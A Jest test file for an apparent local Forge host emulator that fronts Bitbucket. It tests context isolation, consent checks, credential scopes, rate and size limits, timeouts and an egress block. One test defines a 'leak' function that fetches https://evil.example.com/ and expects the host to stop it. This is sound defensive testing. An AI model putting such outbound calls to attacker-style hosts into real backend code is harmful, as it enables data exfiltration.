import api, { route } from '@forge/api';
import Resolver from '@forge/resolver';
import { type BitbucketBehindForge } from '../../../local/forge/bitbucket-proxy';
import { createForgeHost, type ForgeHost } from '../../../local/forge/host';
import { type ForgeManifest } from '../../../local/forge/manifest';
import { aManifest } from '../../builders/a-forge-manifest';

type Functions = Readonly<
  Record<string, (request: { payload: unknown; context: unknown }) => unknown>
>;

const seen: { url: string; authorization: string | null }[] = [];
const bitbucket: BitbucketBehindForge = {
  fetch: (request) => {
    seen.push({ url: request.url, authorization: request.headers.get('authorization') });
    return Promise.resolve(Response.json({ ok: true }));
  },
  authorize: (identity, scopes) => JSON.stringify({ identity, scopes }),
};

async function aHost(
  functions: Functions,
  manifest: ForgeManifest = aManifest(),
): Promise<ForgeHost> {
  const resolver = new Resolver();
  for (const [name, work] of Object.entries(functions)) resolver.define(name, work);
  const host = await createForgeHost({
    ...{ manifest, bitbucket },
    loadBackend: () => Promise.resolve({ resolver: resolver.getDefinitions() }),
  });
  host.consents.grant('one', 'alice');
  return host;
}

const call = {
  installationId: 'one',
  workspaceId: 'w',
  accountId: 'alice',
  moduleKey: 'page',
  extension: {},
};
const get = () => api.asUser().requestBitbucket(route`/2.0/user`);

beforeEach(() => {
  seen.length = 0;
});

test('a resolver gets the payload, and the context that Forge vouches for', async () => {
  const host = await aHost({ echo: ({ payload, context }) => ({ payload, context }) });
  const payload = { accountId: 'mallory' };
  expect(await host.invoke({ ...call, functionKey: 'echo', payload })).toMatchObject({
    payload,
    context: {
      accountId: 'alice',
      workspaceId: 'w',
      installContext: 'ari:cloud:bitbucket::workspace/w',
      extension: { type: 'bitbucket:workspaceSettingsMenuPage' },
    },
  });
});

test('two invocations at once keep their callers apart', async () => {
  const host = await aHost({
    ask: async ({ payload }) => {
      await new Promise((resolve) => setTimeout(resolve, Number(payload === undefined)));
      await get();
    },
  });
  host.consents.grant('one', 'bob');
  await Promise.all([
    host.invoke({ ...call, functionKey: 'ask' }),
    host.invoke({ ...call, accountId: 'bob', functionKey: 'ask', payload: {} }),
  ]);
  const accounts = seen.map(({ authorization }) => /alice|bob/.exec(authorization ?? '')?.[0]);
  expect(accounts.sort()).toEqual(['alice', 'bob']);
});

test('each identity goes with its own credential and the scopes of the manifest', async () => {
  const host = await aHost({
    ask: async () => {
      await api.asApp().requestBitbucket(route`/2.0/user`);
      await get();
    },
  });
  await host.invoke({ ...call, functionKey: 'ask' });
  expect(seen.map(({ authorization }) => JSON.parse(authorization ?? '') as unknown)).toEqual([
    { identity: { as: 'app' }, scopes: ['storage:app'] },
    { identity: { as: 'user', accountId: 'alice' }, scopes: ['storage:app'] },
  ]);
  expect(host.requests.map(({ as }) => as)).toEqual(['app', 'user']);
});

test('nobody is acted for without consent, nor anybody but the caller', async () => {
  const host = await aHost({
    ask: get,
    askAsOther: () => api.asUser('bob').requestBitbucket(route`/2.0/user`),
  });
  const needsConsent = { name: 'NEEDS_AUTHENTICATION_ERR' };
  await expect(
    host.invoke({ ...call, accountId: 'bob', functionKey: 'ask' }),
  ).rejects.toMatchObject(needsConsent);
  await expect(host.invoke({ ...call, functionKey: 'askAsOther' })).rejects.toMatchObject(
    needsConsent,
  );
  expect(seen).toEqual([]);
});

test('the 101st request of one invocation is held back', async () => {
  const statuses: (number | string)[] = [];
  const host = await aHost({
    flood: async () => {
      for (let at = 0; at < 101; at += 1)
        statuses.push(
          await get().then(
            ({ status }) => status,
            (error: unknown) => (error as Error).name,
          ),
        );
    },
  });
  await host.invoke({ ...call, functionKey: 'flood' });
  expect(statuses.slice(0, 100).every((status) => status === 200)).toBe(true);
  expect(statuses[100]).toBe('PROXY_ERR');
  expect(seen).toHaveLength(100);
});

test('a request above 500 KB and a response above 5 MB do not pass', async () => {
  const host = await aHost({
    size: ({ payload }) => 'x'.repeat((payload as { size: number }).size),
  });
  const ask = (payload: object) => host.invoke({ ...call, functionKey: 'size', payload });
  await expect(ask({ size: 1, filler: 'x'.repeat(500_000) })).rejects.toThrow('500000');
  await expect(ask({ size: 5_000_000 })).rejects.toThrow('5000000');
  expect(await ask({ size: 4_999_000 })).toHaveLength(4_999_000);
});

test('a resolver that does not answer within 25 s is given up', async () => {
  jest.useFakeTimers();
  const host = await aHost({ hang: () => new Promise(() => undefined) });
  const answer = expect(host.invoke({ ...call, functionKey: 'hang' })).rejects.toThrow('25 s');
  await jest.advanceTimersByTimeAsync(25_000);
  await answer;
  jest.useRealTimers();
});

test('backend code reaches no address that the manifest does not name', async () => {
  const host = await aHost({ leak: () => fetch('https://evil.example.com/') });
  await expect(host.invoke({ ...call, functionKey: 'leak' })).rejects.toThrow('evil.example.com');
});

test('a function or page that is not there is an error', async () => {
  const host = await aHost({});
  await expect(host.invoke({ ...call, functionKey: 'nothing' })).rejects.toThrow('nothing');
  await expect(host.invoke({ ...call, moduleKey: 'other', functionKey: 'x' })).rejects.toThrow(
    'other',
  );
});
